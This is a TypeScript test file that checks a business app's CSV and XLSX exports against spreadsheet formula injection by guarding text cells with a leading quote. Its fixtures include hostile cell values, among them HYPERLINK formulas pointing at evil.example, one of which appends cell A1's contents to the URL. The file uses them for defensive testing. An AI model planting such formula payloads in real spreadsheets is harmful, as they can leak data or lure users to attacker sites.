/**
 * Formula injection in every export: text that would start a formula is written as guarded text (a leading `'`)
 * in CSV and XLSX alike, never as a formula; numbers — negative money too — stay numbers. The helpers alone, then
 * the real exports (invoice register XLSX, report XLSX and CSV) read back with a CSV reader and exceljs.
 */
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildCsv, csvNumber, safeCellText } from './csv.js';
import { buildXlsx } from './xlsx.js';
import { describeEachDialect, type TestClient } from '../test/harness.js';
import { generateValidAccount } from '../../common/requisites.js';

const EVIL = ['=HYPERLINK("http://evil.example","Жми")', '+7 999 123-45-67', '-2+3', '@SUM(A1:A9)', '\tTAB', '\rCR', '＝1+1'];

/** Reads `;`-separated CSV (RFC 4180 quoting, CRLF) as a spreadsheet would: the cell texts, quotes undone. */
function parseCsv(buf: Buffer): string[][] {
  const text = buf.toString('utf8').replace(/^\uFEFF/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

async function readXlsx(buf: Buffer): Promise<ExcelJS.Worksheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as any);
  return wb.worksheets[0];
}

/** Every cell of a sheet as {type, value}; formula cells are reported as such. */
function cellsOf(ws: ExcelJS.Worksheet) {
  const cells: { address: string; type: ExcelJS.ValueType; value: unknown; formula?: string }[] = [];
  ws.eachRow((row) =>
    row.eachCell((cell) => cells.push({ address: cell.address, type: cell.type, value: cell.value, formula: cell.formula })),
  );
  return cells;
}

describe('formula injection: the shared helpers', () => {
  it('safeCellText prefixes exactly the dangerous starts', () => {
    for (const s of EVIL) expect(safeCellText(s)).toBe(`'${s}`);
    for (const s of ['ООО «Ромашка»', '1+1', ' =1', "'=1", '', 'a=b', '—', '26.11.2026']) expect(safeCellText(s)).toBe(s);
  });

  it('CSV: text guarded, numbers (negative too) as numbers; read back as Excel would see it', () => {
    const buf = buildCsv([
      ['Название', 'Сумма'],
      ...EVIL.map((s, i) => [s, csvNumber(`-${i}234,50`)]),
      ['Число', -12.5],
      ['Не число', csvNumber('=1+1')],
    ]);
    expect([...buf.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(buf);
    expect(rows[0]).toEqual(['Название', 'Сумма']);
    EVIL.forEach((s, i) => expect(rows[i + 1]).toEqual([`'${s}`, `-${i}234,50`]));
    expect(rows[EVIL.length + 1]).toEqual(['Число', '-12,5']);
    expect(rows[EVIL.length + 2]).toEqual(['Не число', "'=1+1"]);
  });

  it('XLSX: text cells are plain guarded strings, never formulas; money and numbers stay numeric', async () => {
    const buf = await buildXlsx([
      {
        name: 'Лист',
        title: ['=TITLE()'],
        columns: [
          { header: '=Заголовок', type: 'text', value: (r: { s: string; m: number }) => r.s },
          { header: 'Сумма', type: 'money', value: (r: { s: string; m: number }) => r.m, total: true },
        ],
        rows: EVIL.map((s, i) => ({ s, m: -(i + 1) * 10050 })),
        totalsLabel: '-Итого',
      },
    ]);
    const ws = await readXlsx(buf);
    expect(ws.getCell('A1').value).toBe("'=TITLE()");
    expect(ws.getCell('A2').value).toBe("'=Заголовок");
    EVIL.forEach((s, i) => {
      const text = ws.getCell(3 + i, 1);
      expect(text.type).toBe(ExcelJS.ValueType.String);
      // (XML normalises a CR inside text to LF on reading: still one guarded string.)
      expect(text.value).toBe(`'${s}`.replace(/\r/g, '\n'));
      const money = ws.getCell(3 + i, 2);
      expect(money.type).toBe(ExcelJS.ValueType.Number);
      expect(money.value).toBe(-(i + 1) * 100.5);
    });
    const totals = ws.getRow(3 + EVIL.length);
    expect(totals.getCell(1).value).toBe("'-Итого");
    // The only formula in the file is the totals SUM the export writes itself.
    const formulas = cellsOf(ws).filter((c) => c.type === ExcelJS.ValueType.Formula);
    expect(formulas.map((c) => c.formula)).toEqual([`SUM(B3:B${2 + EVIL.length})`]);
  });
});

describeEachDialect('formula injection: every export over HTTP', (h) => {
  let manager: TestClient;
  let owner: TestClient;
  const evilClient = '=HYPERLINK("http://evil.example/?"&A1,"Жми")';
  const evilDeal = '-Скидка+10%';
  const evilManager = '@Злой Менеджер';

  beforeAll(async () => {
    const bik = '044525225';
    const company = await h.admin.put('/api/settings/company', {
      name: 'ООО «Экспорт»',
      inn: '7707083893',
      kpp: '773601001',
      ogrn: '1027700132195',
      address: 'г. Москва',
      bankName: 'ПАО Сбербанк',
      bik,
      account: generateValidAccount(() => 0.5, bik),
      corrAccount: '30101810400000000225',
      director: 'Иванов И. И.',
      chiefAccountant: 'Петрова А. С.',
      taxMode: 'vat22',
      invoicePrefix: '',
      paymentTermDays: 5,
    });
    expect(company.status).toBe(200);
    manager = await h.user('manager', { name: evilManager });
    owner = await h.user('owner');
    const client = await manager.post('/api/clients', { kind: 'company', name: evilClient, region: '+Регион' });
    expect(client.status, JSON.stringify(client.body)).toBe(201);
    const deal = await manager.post('/api/deals', {
      clientId: client.body.id,
      title: evilDeal,
      items: [{ name: 'Услуга', quantity: 1, price: 123456, vatRate: 22 }],
    });
    expect(deal.status, JSON.stringify(deal.body)).toBe(201);
    expect((await manager.post(`/api/deals/${deal.body.id}/invoices`)).status).toBe(201);
  });

  it('the invoice register (XLSX)', async () => {
    const res = await h.admin.get('/api/invoices?format=xlsx');
    expect(res.status).toBe(200);
    const ws = await readXlsx(res.raw.rawPayload);
    const cells = cellsOf(ws);
    const buyer = cells.find((c) => String(c.value).includes('HYPERLINK'))!;
    expect(buyer).toMatchObject({ type: ExcelJS.ValueType.String, value: `'${evilClient}` });
    expect(cells.find((c) => String(c.value).includes('Скидка'))).toMatchObject({ type: ExcelJS.ValueType.String, value: `'${evilDeal}` });
    const row = ws.getRow(Number(buyer.address.replace(/\D/g, '')));
    expect(row.getCell(7).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(7).value).toBe(1234.56);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).every((c) => /^SUM\(/.test(c.formula!))).toBe(true);
  });

  it('a report as CSV and as XLSX', async () => {
    const q = '/api/reports/sales?measure=pipeline_amount&groupBy=manager';
    const csv = await owner.get(`${q}&format=csv`);
    expect(csv.status).toBe(200);
    const rows = parseCsv(csv.raw.rawPayload);
    const line = rows.find((r) => r[0].includes('Злой'));
    expect(line).toEqual([`'${evilManager}`, '1234,56']);
    expect(rows.flat().some((c) => /^[=+\-@]/.test(c) && !/^-?\d/.test(c))).toBe(false);

    const xlsx = await owner.get(`${q}&format=xlsx`);
    const cells = cellsOf(await readXlsx(xlsx.raw.rawPayload));
    expect(cells.find((c) => String(c.value).includes('Злой'))).toMatchObject({ type: ExcelJS.ValueType.String, value: `'${evilManager}` });
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Number && c.value === 1234.56)).toBe(true);

    const byRegion = parseCsv((await owner.get('/api/reports/sales?measure=pipeline_amount&groupBy=region&format=csv')).raw.rawPayload);
    expect(byRegion.find((r) => r[0].includes('+Регион'))).toEqual(["'+Регион", '1234,56']);
  });
});
